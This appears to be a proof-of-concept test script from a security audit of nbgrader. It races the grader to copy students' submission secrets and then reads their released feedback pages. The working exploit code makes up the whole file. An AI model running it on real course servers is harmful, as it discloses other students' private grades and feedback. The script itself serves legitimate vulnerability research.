"""a10: a03's first-run window, in the exchange's flow: collect keeps each hand-in's submission_secret.txt (128 hex
digits) and timestamp.txt, and the grader keeps them beside the notebook in .autograding/<student>/<assignment>/
(0644 under 0755 folders during a course's first run). nbgrader names a student's feedback page in the exchange
md5(secret + notebook id).html, in a feedback folder every user may traverse (0711) and pages every user may read
(0644). eve48 copies zoe's secret during the first run, then reads zoe's feedback page from the exchange after the
TA (root) runs `nbgrader release_feedback`."""
from common import *
import hashlib, secrets
c = make_course("a10")
ex = "/tmp/attack48-root-a10-exchange"
subprocess.run(["rm", "-rf", ex]); os.mkdir(ex); os.chmod(ex, 0o1777)
sec = {}
for s in ("aaron", "mallory", "zoe"):
    p = hand_in(c, s, honest())
    sec[s] = secrets.token_hex(64)
    open(p + "/submission_secret.txt", "w").write(sec[s])
    open(p + "/timestamp.txt", "w").write("2026-11-29 20:00:00.000000 UTC")
# collect would make each hand-in's folder 0700
for s in sec:
    subprocess.run(["chmod", "-R", "go-rwx", f"{c}/submitted/{s}"])
loot = "/tmp/eve48-loot-root-a10"; subprocess.run(["rm", "-rf", loot])
stop = "/tmp/eve48-stop-root-a10"
if os.path.exists(stop): os.remove(stop)
open("/tmp/eve48-watch-root-a10.py", "w").write(open("/tmp/eve48-watch-root.py").read().replace("os.walk(course)", "os.walk(course + '/.autograding')").replace("time.sleep(0.2)", "time.sleep(0.02)"))
w = subprocess.Popen(["runuser", "-u", "eve48", "--", CLONE + "/.venv/bin/python", "/tmp/eve48-watch-root-a10.py", c, loot, stop])
grade(c)
open(stop, "w").close(); w.wait(timeout=30)
got = {f: open(os.path.join(loot, f)).read() for f in os.listdir(loot) if f.endswith("submission_secret.txt")}
print("secrets eve48 copied:", {k: v[:16] + "..." for k, v in got.items()})
victims = {s: v for s in ("aaron", "zoe") for k, v in got.items() if f"_{s}_" in k}
print("victims' secrets copied correctly:", {s: v == sec[s] for s, v in victims.items()})
# the TA releases feedback through the exchange
env = dict(os.environ, **ENV_CANARY)
r = subprocess.run([CLONE + "/.venv/bin/python", "-m", "nbgrader", "release_feedback", "ps1_memory",
                    f"--Exchange.root={ex}"], cwd=c, env=env, capture_output=True, text=True)
print("release_feedback rc", r.returncode, r.stderr[-1500:])
subprocess.run(["ls", "-laR", ex])
for victim, vsecret in victims.items():
    name = hashlib.md5((vsecret + "ps1_memory").encode()).hexdigest() + ".html"
    r = subprocess.run(["runuser", "-u", "eve48", "--", "sh", "-c", f"wc -c {ex}/distcourse/feedback/{name}; grep -o '{victim}' {ex}/distcourse/feedback/{name} | sort | uniq -c | head"],
                       capture_output=True, text=True)
    print(f"eve48 reads {victim}'s feedback page by its name {name}:", r.stdout, r.stderr)
print(open(c + "/grades.csv").read())
subprocess.run(["rm", "-rf", ex, loot])
